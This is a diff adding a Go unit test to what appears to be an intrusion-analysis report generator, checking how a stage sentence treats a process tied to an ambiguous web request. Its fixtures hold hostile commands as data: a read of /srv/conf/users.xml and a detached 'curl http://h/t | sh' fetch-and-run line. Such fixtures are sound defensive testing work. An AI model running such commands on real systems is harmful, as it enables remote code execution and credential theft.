@@ -451,3 +451,33 @@ func TestStageSentenceFilesThroughOnlyWhatRequestsCaused(t *testing.T) {
 		t.Errorf("%q: want %q", got, want)
 	}
 }
+
+// A process whose request is ambiguous (several candidates, none picked)
+// did not run "through requests to X" of another request of the stage: the
+// sentence lists it apart.
+func TestStageSentenceAmbiguousRequestNotThrough(t *testing.T) {
+	t0 := time.Date(2026, 12, 3, 15, 42, 31, 0, time.UTC)
+	java := DocAncestor{PID: 500, Exe: "/usr/bin/java"}
+	ex := func(id string, pid int, args ...string) DocFinding {
+		return DocFinding{ID: id, Title: "T", Severity: "high", Stage: 4, StageID: "suspicious-process-spawn", Time: t0, Kind: "exec",
+			ChainID: "C01", Outcome: OutcomeSuccess, Process: &DocProcess{PID: pid, PPID: 500, Exe: "/usr/bin/" + args[0], Args: args, Ancestors: []DocAncestor{java}}}
+	}
+	fs := []DocFinding{
+		ex("F0001", 1326, "cat", "/srv/conf/users.xml"),
+		ex("F0002", 1610, "sh", "-c", "setsid sh -c 'curl http://h/t | sh' &"),
+	}
+	byID := map[string]*DocFinding{}
+	for i := range fs {
+		byID[fs[i].ID] = &fs[i]
+	}
+	sg := DocStage{Stage: 4, StageID: "suspicious-process-spawn", Name: "Suspicious process spawn", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001", "F0002"}}
+	ch := &DocChain{ID: "C01", FindingIDs: sg.FindingIDs, Stages: []DocStage{sg}, Requests: []DocRequest{
+		{Time: t0, Method: "GET", URL: "/a/view.jsp?c=cat", Status: 200, Client: "10.0.0.9", PID: 1326},
+		{Time: t0.Add(10 * time.Second), PID: 1610, LinkBasis: "ambiguous", Inferred: true,
+			Candidates: []DocRequest{{Method: "GET", URL: "/stock/css/print.jsp"}, {Method: "GET", URL: "/stock/"}}},
+	}}
+	got := sentence(ch, sg, byID, "").Text
+	if want := "ran `cat /srv/conf/users.xml` through requests to /a/view.jsp; ran `setsid"; !strings.Contains(got, want) {
+		t.Errorf("%q: want %q", got, want)
+	}
+}
